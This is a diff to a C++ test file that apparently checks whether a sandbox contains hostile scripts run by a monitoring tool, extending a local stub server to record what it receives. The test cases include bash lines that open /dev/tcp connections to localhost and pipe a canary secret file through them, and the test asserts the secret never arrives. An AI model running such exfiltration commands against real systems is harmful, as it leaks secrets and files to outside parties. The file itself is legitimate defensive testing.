@@ -5,6 +5,8 @@
 #include <sys/resource.h>
 #include <sys/socket.h>
 
+#include <mutex>
+
 #include "scenarios/story.h"
 
 namespace chela::test {
@@ -26,13 +28,17 @@ class Page {
     port = std::to_string(ntohs(at.sin_port));
     thread_ = std::thread([this] {
       for (int client = 0; (client = accept(listener_, nullptr, nullptr)) >= 0;) {
-        char bytes[4096];
-        pollfd wait{client, POLLIN, 0};
-        if (poll(&wait, 1, 500) > 0) [[maybe_unused]]
-          const auto got = read(client, bytes, sizeof bytes);
+        {
+          const std::lock_guard lock(mutex_);
+          ++visits_;
+        }
+        hear(client);
         const std::string answer =
             "HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nhello\n";
         [[maybe_unused]] const auto sent = send(client, answer.data(), answer.size(), MSG_NOSIGNAL);
+        shutdown(client, SHUT_WR);
+        while (hear(client)) {  // up to its end: what is said may come in pieces
+        }
         close(client);
       }
     });
@@ -42,10 +48,33 @@ class Page {
     thread_.join();
     close(listener_);
   }
+  // What was said to it so far, and how often somebody came.
+  std::string heard() const {
+    const std::lock_guard lock(mutex_);
+    return heard_;
+  }
+  int visits() const {
+    const std::lock_guard lock(mutex_);
+    return visits_;
+  }
   std::string port;
 
  private:
+  // False at the end, or when nothing comes for half a second.
+  bool hear(int client) {
+    char bytes[4096];
+    pollfd wait{client, POLLIN, 0};
+    const ssize_t got = poll(&wait, 1, 500) > 0 ? read(client, bytes, sizeof bytes) : 0;
+    if (got <= 0) return false;
+    const std::lock_guard lock(mutex_);
+    heard_.append(bytes, static_cast<std::size_t>(got));
+    return true;
+  }
+
   int listener_;
+  mutable std::mutex mutex_;
+  std::string heard_;
+  int visits_ = 0;
   std::thread thread_;
 };
 
@@ -145,7 +174,7 @@ TEST_F(Nagios, HostileProgramsAreContained) {
        "exec 9<>/dev/tcp/127.0.0.1/PORT && cat SECRET >&9; exit 2",
        ""},
   };
-  const Page page;
+  const Page page, open_page;
   spill(desk_.home() / "secret", "canary-7391\n");
   for (const auto& one : programs) {
     std::string script = one.script;
@@ -157,6 +186,12 @@ TEST_F(Nagios, HostileProgramsAreContained) {
     }
     add(one.id, "bash, -c, " + json::serialize(json::string(script)), "", "", "  timeout: 3s\n");
   }
+  // The same with a server that it may reach: that it comes there shows that the script works.
+  add("courier",
+      "bash, -c, " + json::serialize(json::string(
+                         "exec 9<>/dev/tcp/127.0.0.1/" + open_page.port + " && { echo came; cat " +
+                         (desk_.home() / "secret").string() + "; } >&9; exit 2")),
+      "\"127.0.0.1:" + open_page.port + "\"");
   add("good", "true");
   adopt_orphans();
   const auto begin = std::chrono::steady_clock::now();
@@ -166,6 +201,9 @@ TEST_F(Nagios, HostileProgramsAreContained) {
   EXPECT_LT(took, std::chrono::seconds(60));
   EXPECT_NE(outcome.err.find("took longer than 3s"), std::string::npos) << outcome.err;
   EXPECT_EQ((outcome.out + outcome.err).find("canary-7391"), std::string::npos);
+  EXPECT_EQ(page.visits(), 0) << "it may reach no server";
+  EXPECT_NE(open_page.heard().find("came"), std::string::npos) << outcome.err;
+  EXPECT_EQ(open_page.heard().find("canary-7391"), std::string::npos) << "the secret was sent";
   rusage used{};
   getrusage(RUSAGE_CHILDREN, &used);
   EXPECT_LT(used.ru_maxrss, 600 * 1024) << "KiB, of the largest process";
